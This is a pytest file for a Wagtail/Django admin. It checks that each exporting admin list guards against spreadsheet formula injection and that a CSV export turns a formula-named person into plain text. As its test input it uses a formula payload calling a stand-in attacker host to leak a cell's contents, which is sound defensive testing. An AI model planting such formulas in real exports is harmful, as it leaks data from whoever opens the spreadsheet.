"""Every admin list that exports (``list_export``) neutralises its text cells: walked from Wagtail's registry of
viewsets, so a screen added later fails here until it uses ``exams.admin_exports`` (issue #22, finding 9)."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.admin.viewsets import viewsets

from exams.admin_exports import NeutralisedExportMixin
from tests.factories import PersonFactory, UserFactory
from tests.plugin_apps import plugin_labels

OURS = plugin_labels()


def exporting_viewsets():
    reverse("wagtailadmin_home")  # the admin URLs are loaded, so every viewset is registered
    return [vs for vs in viewsets.viewsets
            if isinstance(getattr(vs, "list_export", None), (list, tuple)) and vs.list_export
            and getattr(vs, "model", None) is not None
            and vs.model._meta.app_label in OURS]


def test_every_exporting_admin_list_of_ours_neutralises_formulas():
    found = exporting_viewsets()
    assert len(found) >= 15  # people, requirements, questions, attempts, certificates, decisions, permits, ...
    plain = [type(vs).__name__ for vs in found if not issubclass(vs.index_view_class, NeutralisedExportMixin)]
    assert plain == []


@pytest.mark.django_db
def test_a_name_that_is_a_formula_is_exported_as_text(client):
    """A roster row can name a person "=HYPERLINK(...)": the People export keeps it text, also where it appears as
    a related object (the manager column)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    boss = PersonFactory(name=formula)
    PersonFactory(name="王五", manager=boss)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    response = client.get(reverse("wagtailsnippets_lms_person:list") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
